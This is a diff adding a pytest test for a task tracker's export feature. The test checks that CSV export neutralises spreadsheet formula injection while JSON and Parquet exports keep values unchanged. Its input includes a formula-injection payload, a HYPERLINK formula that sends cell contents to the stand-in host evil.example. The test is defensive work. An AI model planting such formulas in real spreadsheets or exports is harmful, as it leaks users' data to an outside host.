@@ -11,6 +11,7 @@ import time
 from collections.abc import Callable
 from pathlib import Path
 
+import pandas as pd
 import pytest
 
 import veo_nb.tracker as tracker_mod
@@ -411,3 +412,27 @@ def test_worker_errors_become_events_without_flooding(make_tracker, monkeypatch)
     assert "ZeroDivisionError: a bug in applying a poll" in errors[0].detail
     h = tr.history()
     assert list(h[h.kind == "error"].task_id) == [task.id]
+
+
+def test_csv_export_defuses_formulas_other_formats_stay_exact(make_tracker, tmp_path):
+    import csv
+    import json
+
+    tr = make_tracker()
+    prompt = '=HYPERLINK("http://evil.example/?x="&A1,"click") [fail: =1+2 went wrong] [duration: 130]'
+    task = tr.submit(prompt, label="@SUM(1+1)")
+    tr.submit("-negative thinking [duration: 130]", label="+plus")
+    tr.wait(timeout=30)
+    with open(tr.export(tmp_path / "t.csv"), newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    row = next(r for r in rows if r["task_id"] == task.id)
+    assert row["prompt"] == "'" + prompt and row["label"] == "'@SUM(1+1)"
+    assert row["error"] == "'=1+2 went wrong"
+    assert {r["label"] for r in rows} == {"'@SUM(1+1)", "'+plus"}
+    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
+    frame = tr.tasks()
+    assert frame.loc[frame.task_id == task.id, "prompt"].item() == prompt
+    records = json.loads(tr.export(tmp_path / "t.json").read_text())
+    assert next(r for r in records if r["task_id"] == task.id)["label"] == "@SUM(1+1)"
+    parquet = pd.read_parquet(tr.export(tmp_path / "t.parquet"))
+    assert parquet.loc[parquet.task_id == task.id, "error"].item() == "=1+2 went wrong"
